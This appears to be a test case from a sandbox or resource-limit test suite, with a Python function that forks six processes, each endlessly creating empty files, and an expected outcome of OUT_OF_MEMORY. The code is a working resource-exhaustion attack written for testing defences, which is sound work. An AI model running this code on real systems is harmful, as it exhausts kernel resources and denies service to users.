# attack: makes files without end, which are empty and yet are something to the kernel
# checks: double_right
# outcome: double_right=OUT_OF_MEMORY
import os


def double(number):
    for folder in range(6):
        if os.fork() == 0:
            os.mkdir(f"folder{folder}")
            count = 0
            while True:
                os.close(os.open(f"folder{folder}/{count}", os.O_CREAT))
                count += 1
    os.read(os.pipe()[0], 1)
